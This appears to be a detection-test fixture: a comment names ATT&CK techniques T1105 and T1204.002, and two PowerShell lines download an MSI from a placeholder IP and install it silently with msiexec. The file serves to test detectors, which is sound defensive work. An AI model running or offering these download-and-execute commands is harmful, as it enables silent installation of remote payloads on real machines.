# expect: T1105 T1204.002
Start-BitsTransfer -Source 'http://203.0.113.3/pkg.msi' -Destination "$env:TEMP\pkg.msi"
msiexec /i "$env:TEMP\pkg.msi" /qn
